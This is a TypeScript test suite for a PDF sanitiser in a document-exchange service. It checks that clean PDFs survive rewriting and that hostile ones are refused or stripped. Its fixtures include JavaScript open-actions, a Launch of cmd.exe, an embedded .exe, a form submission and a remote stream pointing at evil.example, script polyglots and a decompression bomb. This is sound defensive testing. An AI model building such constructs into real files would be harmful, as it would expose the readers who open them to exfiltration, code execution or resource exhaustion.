import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { askDesk, openOrganisation, openSeat, refusalOf } from '../../test/open-seat.ts';
import { openTestPool, type TestPool } from '../../test/open-test-pool.ts';
import { cleanPdf } from './clean-pdf.ts';

let pool: TestPool;
before(async () => {
  pool = await openTestPool();
});
after(() => pool.close());

const content = 'BT /F1 24 Tf 72 700 Td (Contract until 2027) Tj ET';
const stream = (dictionary: string, bytes: string) =>
  `<<${dictionary}/Length ${bytes.length}>>\nstream\n${bytes}\nendstream`;

/** One page with words on it, as any program writes it. */
const honest: Readonly<Record<number, string>> = {
  1: '<</Type/Catalog/Pages 2 0 R>>',
  2: '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  3: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
  4: stream('', content),
  5: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
};

/** Writes a PDF with its table of offsets; the table of another number may be bent. */
function makePdf(
  objects: Readonly<Record<number, string>>,
  { trailer = '', bend = (places: Map<number, number>, _text: string) => places } = {},
): Buffer {
  let text = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  let places = new Map<number, number>();
  for (const [number, value] of Object.entries(objects)) {
    places.set(Number(number), text.length);
    text += `${number} 0 obj\n${value}\nendobj\n`;
  }
  places = bend(places, text);
  const rows = [...places].map(([number, at]) => `${number} 1\n${String(at).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 1\n0000000000 65535 f \n${rows}trailer\n<</Size 99/Root 1 0 R${trailer}>>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** The same objects packed into a stream, as programs have written them since PDF 1.5; the fourth stays outside, it is a stream. */
function makePacked(
  objects: Readonly<Record<number, string>>,
  pack: (plain: string) => [dictionary: string, bytes: string] = (plain) => [
    '/Filter/FlateDecode',
    deflateSync(Buffer.from(plain, 'latin1')).toString('latin1'),
  ],
): Buffer {
  const packed = Object.entries(objects).filter(([number]) => number !== '4');
  let [head, body] = ['', ''];
  for (const [number, value] of packed) {
    head += `${number} ${body.length} `;
    body += `${value} `;
  }
  const [dictionary, bytes] = pack(head + body);
  const holder = stream(`/Type/ObjStm/N ${packed.length}/First ${head.length}${dictionary}`, bytes);
  const table = stream('/Type/XRef/Size 99/Root 1 0 R/W[1 2 1]', '\0');
  const text = `%PDF-1.7\n4 0 obj\n${honest[4]}\nendobj\n10 0 obj\n${holder}\nendobj\n11 0 obj\n${table}\nendobj\nstartxref\n0\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const withCatalogue = (entries: string, more: Record<number, string> = {}) => ({
  ...honest,
  1: `<</Type/Catalog/Pages 2 0 R ${entries}>>`,
  ...more,
});

/** What each does in the viewer of whoever opens it. */
const hostile: Readonly<Record<string, Readonly<Record<number, string>>>> = {
  'a script': withCatalogue('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
  'a script under another spelling': withCatalogue('/OpenAction<</S/#4Aava#53cript/J#53 6 0 R>>', {
    6: '(app.alert(1))',
  }),
  'a script behind comments': withCatalogue('/OpenAction%>>\n<<%(\n/S%\r/JavaScript%\n/JS 6 0 R>>', { 6: '(x)' }),
  'a script among the names': withCatalogue('/Names<</JavaScript<</Names[(a)6 0 R]>>>>', { 6: '<</S/JavaScript>>' }),
  'a script when a page is opened': { ...honest, 3: '<</Type/Page/Parent 2 0 R/AA<</O<</S/JavaScript/JS(x)>>>>>>' },
  'a script that lies in a stream': withCatalogue('/OpenAction 6 0 R', {
    6: '<</S/Named/N/NextPage/Next 7 0 R>>',
    7: '<</S/JavaScript/JS 8 0 R>>',
    8: stream('', 'app.alert(1)'),
  }),
  'a program that is started': withCatalogue('/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>'),
  'a file inside': withCatalogue('/Names<</EmbeddedFiles<</Names[(a.exe)6 0 R]>>>>', {
    6: '<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>',
    7: stream('', 'MZ'),
  }),
  'a file pinned to a page': {
    ...honest,
    3: '<</Type/Page/Parent 2 0 R/Annots[<</Subtype/FileAttachment/FS 6 0 R>>]>>',
    6: '<</Type/Filespec>>',
  },
  'a form that sends': withCatalogue('/OpenAction<</S/SubmitForm/F(https://evil.example)>>'),
  'a form that is a program': withCatalogue('/AcroForm<</XFA 6 0 R>>', { 6: stream('', '<xdp/>') }),
  'a film': { ...honest, 3: '<</Type/Page/Parent 2 0 R/Annots[<</Subtype/RichMedia>>]>>' },
  'what is fetched from elsewhere': { ...honest, 4: '<</F(//evil.example/x)/Length 0>>\nstream\n\nendstream' },
};

const refusal = (why: RegExp) => ({ code: 'document_refused', message: why });

test('a PDF that is only to be read is kept, with its words, in whatever form it came', () => {
  const updated = Buffer.concat([
    makePdf({ ...honest, 4: stream('', 'old words') }),
    Buffer.from(`4 0 obj\n${honest[4]}\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n`),
  ]);
  const late = { ...honest, 4: honest[4]!.replace(/\/Length \d+/, '/Length 6 0 R'), 6: String(content.length) };
  for (const file of [makePdf(honest), makePacked(honest), updated, makePdf(late)]) {
    const kept = cleanPdf(file).toString('latin1');
    assert.match(kept, /^%PDF-1\.7\n/);
    assert.equal(kept.split(content).length, 2);
    assert.ok(!kept.includes('old words'), 'what was written over is gone');
    const [, table] = /startxref\n(\d+)\n%%EOF\n$/.exec(kept)!;
    assert.ok(kept.startsWith('xref\n', Number(table)));
    const rows = [...kept.slice(Number(table)).matchAll(/^(\d+) 1\n(\d{10}) 00000 n $/gm)];
    assert.ok(rows.length >= 5);
    for (const [, number, at] of rows) assert.ok(kept.startsWith(`${number} 0 obj\n`, Number(at)), `object ${number}`);
    assert.deepEqual(cleanPdf(Buffer.from(kept, 'latin1')).toString('latin1'), kept, 'written anew it stays as it is');
  }
});

for (const [what, objects] of Object.entries(hostile))
  test(`${what}, in the open or packed, is refused in words`, () => {
    const why = /^It has .+ Print it to a new PDF, or send it as pictures\.$/;
    assert.throws(() => cleanPdf(makePdf(objects)), refusal(why));
    if (!/stream/.test(Object.values({ ...objects, 4: '' }).join(''))) {
      const packed = what.startsWith('what is fetched') ? makePdf(objects) : makePacked(objects);
      assert.throws(() => cleanPdf(packed), refusal(why));
    }
  });

test('an encrypted PDF is refused in words, whichever end of it says so', () => {
  const lock = '/Encrypt<</Filter/Standard/V 5/R 6>>';
  assert.throws(() => cleanPdf(makePdf(honest, { trailer: lock })), refusal(/^It is encrypted\. Print/));
  const packed = makePacked(honest).toString('latin1').replace('/W[1 2 1]', `/W[1 2 1]${lock}`);
  assert.throws(() => cleanPdf(Buffer.from(packed, 'latin1')), refusal(/^It is encrypted\. Print/));
});

test('what only the table of offsets leads to, and what lies around the PDF, is not kept', () => {
  const action = '<</S/JavaScript/JS(app.alert(1))>>';
  const hidden = stream('', `\n6 0 obj\n${action}\nendobj\n`);
  const bent = makePdf(withCatalogue('/OpenAction 6 0 R', { 7: hidden }), {
    bend: (places, text) => places.set(6, text.indexOf('6 0 obj\n<<')),
  });
  const zip = Buffer.concat([Buffer.from('PK\u0003\u0004'), deflateRawSync('<script>alert(1)</script>')]);
  const both = Buffer.concat([makePdf(honest), zip, Buffer.from('<script>alert(1)</script>')]);
  const unused = makePdf({ ...honest, 6: action, 7: '<</EF<</F 8 0 R>>>>' }, { trailer: '/Info<</Author(SECRET)>>' });
  for (const file of [bent, both, unused]) {
    const kept = cleanPdf(file);
    assert.ok(kept.includes(content));
    for (const trace of ['JavaScript', 'alert', '<script', 'PK\u0003\u0004', '/EF', 'SECRET', '6 0 R'])
      assert.ok(!kept.includes(trace), trace);
  }
});

test('what is no PDF, was packed to hide, or is made to exhaust its reader is refused before it does', () => {
  const asHex = (plain: string): [string, string] => ['/Filter/ASCIIHexDecode', Buffer.from(plain).toString('hex')];
  const twice = (plain: string): [string, string] => [
    '/Filter[/FlateDecode/FlateDecode]',
    deflateSync(deflateSync(plain)).toString('latin1'),
  ];
  const bomb = (): [string, string] => [
    '/Filter/FlateDecode',
    deflateSync(Buffer.alloc(500 * 1024 * 1024, 32), { level: 1 }).toString('latin1'),
  ];
  const files = {
    empty: Buffer.from('%PDF-1.7'),
    'a script': Buffer.from('%PDF-1.7\n<script>alert(1)</script>'),
    'no pages': makePdf({ 1: '<</Type/Catalog>>' }),
    'packed as hex': makePacked(hostile['a script']!, asHex),
    'packed twice': makePacked(hostile['a script']!, twice),
    'a bomb': makePacked(honest, bomb),
    deep: makePdf({ ...honest, 2: '['.repeat(2_000_000) }),
    'endless word': makePdf({ ...honest, 2: '1'.repeat(2_000_000) }),
    'endless text': makePdf({ ...honest, 2: '('.repeat(2_000_000) }),
    'cut off': makePdf(honest).subarray(0, 300),
    'many objects': makePdf(honest, { trailer: `>>${'\n9 0 obj 1'.repeat(250_000)}<<` }),
  };
  for (const [what, file] of Object.entries(files)) {
    const before = process.memoryUsage().rss;
    assert.throws(() => cleanPdf(file), refusal(/^It is no PDF that can be read\. Print/), what);
    assert.ok(process.memoryUsage().rss - before < 300 * 1024 * 1024, `${what} was not unpacked`);
  }
  const blanks = makePdf({ ...honest, 5: `${'%\n '.repeat(900_000)}${honest[5]}` });
  assert.ok(cleanPdf(blanks).length < 2000, 'comments are passed, and not kept');
});

test('a sent PDF is kept as it was written anew, and comes out as data that no browser shows or runs', async () => {
  const supplier = await openSeat(pool, await openOrganisation(pool, 'supplier'), 'owner');
  const operator = await openSeat(pool, await openOrganisation(pool, 'operator'), 'owner');
  const send = (file: Buffer) =>
    askDesk(pool, supplier, 'uploadDocument', {
      body: { media_type: 'application/pdf', data: file.toString('base64') },
    });
  const refused = await send(makePdf(hostile['a script']!));
  const problem = (await refused.json()) as { code: string; detail: string };
  assert.equal(problem.code, 'document_refused');
  assert.match(problem.detail, /^It has a script in it\. Print it to a new PDF, or send it as pictures\./);
  const sent = Buffer.concat([makePdf(honest), Buffer.from('<script>alert(1)</script>')]);
  const { id } = (await (await send(sent)).json()) as { id: string };
  await pool.engine.db.pool.query("UPDATE document SET used_by = 'vrf_test' WHERE id = $1", [id]);
  const opened = await askDesk(pool, operator, 'openDocument', { id });
  const { data, media_type } = (await opened.json()) as { data: string; media_type: string };
  assert.deepEqual([opened.status, media_type], [200, 'application/pdf']);
  assert.deepEqual(Buffer.from(data, 'base64'), cleanPdf(sent));
  const header = (name: string) => opened.headers.get(name) ?? '';
  assert.match(header('content-type'), /^application\/json/);
  assert.equal(header('x-content-type-options'), 'nosniff');
  assert.match(header('content-security-policy'), /default-src 'none'/);
  assert.match(header('content-security-policy'), /sandbox/);
  assert.match(header('cache-control'), /no-store/);
  const visited = await fetch(opened.url, { headers: { cookie: operator.cookie } });
  assert.equal(
    await refusalOf(visited),
    'organisation_not_found',
    'an address that somebody is sent opens nothing: only the desk asks by name',
  );
});
